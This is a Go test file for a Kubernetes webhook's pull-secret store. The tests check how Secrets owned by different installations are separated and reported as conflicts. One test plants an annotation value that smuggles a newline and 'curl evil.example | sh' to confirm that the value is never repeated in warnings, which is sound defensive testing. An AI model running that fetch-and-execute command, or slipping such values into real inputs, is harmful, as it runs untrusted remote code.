package pullsecret

import (
	"context"
	"errors"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/artifactory-pull-webhook/artifactory-pull-webhook/config"
	"github.com/artifactory-pull-webhook/artifactory-pull-webhook/credentials"
)

// otherInstallations is a managed Secret written by another installation of
// the webhook (its own release, its own opt-in label).
func otherInstallations(t *testing.T) *corev1.Secret {
	t.Helper()
	s, err := NewStore(Options{Fingerprints: testPrints, Installation: "team-b-puller"}).build(ns, newTarget(instance(), credentials.Identity{}), credAt(t0, "b-token"))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Release A's refresher must not delete release B's Secret in a namespace
// that only B's label opts in (A sees it as "opted out"), nor rewrite it.
func TestRefresherLeavesAnotherInstallationsSecretAlone(t *testing.T) {
	h := newRefresherHarness(t, true, namespaceWith(map[string]string{"team-b/inject": "enabled"}), otherInstallations(t))
	h.r.rememberDeleted(secretKey)
	h.reconcile(t)
	h.tokens.cred = credAt(t0.Add(50*60e9), rawToken)
	h.reconcile(t)
	if n := h.calls["delete"] + h.calls["update"] + h.calls["create"]; n != 0 {
		t.Errorf("writes %v to another installation's Secret, want none", h.calls)
	}
	if err := h.api.Get(context.Background(), secretKey, &corev1.Secret{}); err != nil {
		t.Errorf("another installation's Secret is gone: %v", err)
	}
}

// At admission, another installation's Secret of the same name is foreign:
// left alone, the pod is warned, never patched with it.
func TestEnsureTreatsAnotherInstallationsSecretAsForeign(t *testing.T) {
	h := newHarness(t, interceptor.Funcs{}, otherInstallations(t))
	_, err := h.store.Ensure(context.Background(), ns, instance(), false)
	if !errors.Is(err, ErrForeignSecret) || h.calls["update"] != 0 {
		t.Errorf("Ensure: %v, calls %v; want ErrForeignSecret and no write", err, h.calls)
	}
	// The error names the installation that owns the Secret, so that the
	// warning can say which two installations collide.
	var conflict *InstallationConflictError
	if !errors.As(err, &conflict) || conflict.Installation != "team-b-puller" {
		t.Errorf("Ensure: %v; want an InstallationConflictError naming team-b-puller", err)
	}
}

// Secrets written before installations were told apart (no annotation)
// stay the default installation's: an upgrade keeps managing them.
func TestSecretsWithoutInstallationBelongToTheDefaultOne(t *testing.T) {
	legacy := managedSecret(t, credAt(t0, rawToken), instance().RegistryHosts)
	delete(legacy.Annotations, AnnotationInstallation)
	h := newHarness(t, interceptor.Funcs{}, legacy)
	if res, err := h.store.Ensure(context.Background(), ns, instance(), false); err != nil || res.Action != ActionReused {
		t.Errorf("default installation: %q, %v; want the legacy Secret reused", res.Action, err)
	}
	other := NewStore(Options{Reader: managedOnly{h.api}, Writer: h.api, Tokens: h.tokens, Fingerprints: testPrints, Installation: "team-b-puller"})
	var conflict *InstallationConflictError
	if _, err := other.Ensure(context.Background(), ns, instance(), false); !errors.As(err, &conflict) ||
		conflict.Installation != config.DefaultInstallation {
		t.Errorf("another installation: %v; want the legacy Secret the default installation's, foreign to it", err)
	}
	var _ client.Object = legacy
}

// The installation annotation is the tenant's to write: a value that is
// not an installation name never reaches a warning.
func TestInstallationConflictNamesOnlyAValidInstallation(t *testing.T) {
	s := otherInstallations(t)
	s.Annotations[AnnotationInstallation] = "team-b\nrun: curl evil.example | sh"
	h := newHarness(t, interceptor.Funcs{}, s)
	_, err := h.store.Ensure(context.Background(), ns, instance(), false)
	var conflict *InstallationConflictError
	if !errors.As(err, &conflict) || conflict.Installation != "(not a valid installation name)" {
		t.Errorf("Ensure: %v; want an InstallationConflictError that does not repeat the annotation", err)
	}
}
